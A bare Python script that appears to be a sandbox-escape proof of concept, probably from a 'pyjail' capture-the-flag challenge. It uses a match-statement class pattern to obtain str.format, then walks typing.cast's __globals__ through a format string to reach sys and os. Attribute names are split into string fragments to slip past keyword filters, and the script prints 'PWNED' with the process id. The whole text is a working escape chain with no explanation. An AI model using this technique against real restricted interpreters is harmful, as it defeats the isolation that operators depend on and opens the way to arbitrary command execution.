import typing
got = None
match str:
    case type(format=unbound):
        try:
            unbound("{0.__glo" + "bals__[s" + "ys].zz}", typing.cast)
        except AttributeError as e:
            got = e.obj
print("PW" + "NED", got.modules["o" + "s"].getpid())
